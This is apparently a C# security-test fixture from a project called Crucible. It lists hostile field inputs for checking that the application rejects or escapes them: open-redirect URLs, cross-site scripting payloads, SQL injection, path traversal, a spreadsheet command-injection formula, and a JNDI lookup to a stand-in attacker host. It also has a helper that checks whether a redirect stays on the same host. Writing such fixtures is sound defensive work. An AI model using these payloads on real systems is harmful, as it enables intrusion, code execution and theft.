namespace Crucible.Host.Tests.Security;

/// <summary>Texts that people with bad intent type into fields.</summary>
internal static class Attacks
{
    /// <summary>Addresses of another site, in the ways in which browsers take them for one.</summary>
    public static readonly string[] OtherSites =
    [
        "//evil.example", "///evil.example", "////evil.example", "/\\evil.example", "\\\\evil.example", "\\/evil.example", "/\t/evil.example", "/\n/evil.example", "\t//evil.example", " //evil.example",
        "https://evil.example", "https:evil.example", "http:/evil.example", "HTTPS://evil.example", "//evil.example/%2e%2e", "/%09/evil.example", "/%5cevil.example", "/.//evil.example", "/..//evil.example", "//evil%E3%80%82example",
        "javascript:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "//127.0.0.1@evil.example", "https://127.0.0.1@evil.example/", "~//evil.example", "~/\\evil.example", "@evil.example", ".evil.example", ":80@evil.example", "http://[::1]evil.example",
    ];

    /// <summary>Whether a browser that is sent there stays on this host.</summary>
    public static bool StaysHere(string location)
    {
        // As the URL standard reads it: tabs and line ends are dropped wherever they stand, a backslash is a slash.
        var read = location.Replace("\t", "", StringComparison.Ordinal).Replace("\n", "", StringComparison.Ordinal).Replace("\r", "", StringComparison.Ordinal).Trim().Replace('\\', '/');
        return read.StartsWith('/') && !read.StartsWith("//", StringComparison.Ordinal);
    }

    /// <summary>Names that do harm where they are written without care: a page, a log, a header, a spreadsheet, a path.</summary>
    public static readonly string[] Names =
    [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'-alert(1)-'", "</title><svg onload=alert(1)>", "{{constructor.constructor('alert(1)')()}}", "javascript:alert(1)",
        "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "../../etc/passwd", "\u202Egnp.exe", "'; drop table crucible.person; --", "%s%n%d", "${jndi:ldap://evil.example}", "a\u2028b", "\uFEFF",
    ];

    /// <summary>Names with what no line of text holds.</summary>
    public static readonly string[] Lines = ["two\r\nlines", "bell\u0007", "\u001b[2J\u001b[31mred", "zero\0byte", "next\u0085line"];
}
